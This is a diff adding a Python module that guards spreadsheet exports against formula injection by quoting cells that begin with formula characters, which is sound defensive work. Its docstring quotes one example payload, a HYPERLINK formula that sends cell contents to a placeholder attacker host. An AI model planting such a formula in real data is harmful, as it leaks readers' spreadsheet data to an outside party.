@@ -1,0 +1,33 @@
+"""Spreadsheet exports that cannot be turned against their readers.
+
+A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
+tab or carriage return) as a formula: a learner named ``=HYPERLINK("http://evil.example/?"&A1)``
+would run in the instructor's spreadsheet. Every CSV (and any XLSX) export writes its cells through
+``safe_cell``, which puts a single quote before such text (OWASP's advice): the reader sees the
+text as typed, and the spreadsheet never evaluates it. Numbers are written as they are.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: Any) -> Any:
+    """The value to write into a spreadsheet cell: text that would start a formula is quoted."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_text(rows: Iterable[Iterable[Any]]) -> str:
+    """The rows as CSV text, every cell passed through ``safe_cell``: the one CSV writer."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    for row in rows:
+        writer.writerow([safe_cell(cell) for cell in row])
+    return out.getvalue()
